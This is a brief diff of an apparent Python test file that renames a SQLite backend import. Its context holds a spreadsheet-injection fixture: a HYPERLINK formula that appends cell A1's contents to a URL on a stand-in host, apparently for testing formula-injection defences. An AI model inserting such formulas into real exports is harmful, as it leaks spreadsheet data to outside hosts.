@@ -18,7 +18,7 @@ from stoker.cli.main import main
 from stoker.core.cells import restored
 from stoker.core.ledger import Note
 from stoker.core.model import TenantId
-from stoker.stores.sqlite import SqliteBackend
+from stoker.stores.backend_sqlite import SqliteBackend
 
 LINK = '=HYPERLINK("http://x.invalid/?l="&A1,"click")'
 FORMULAS = [
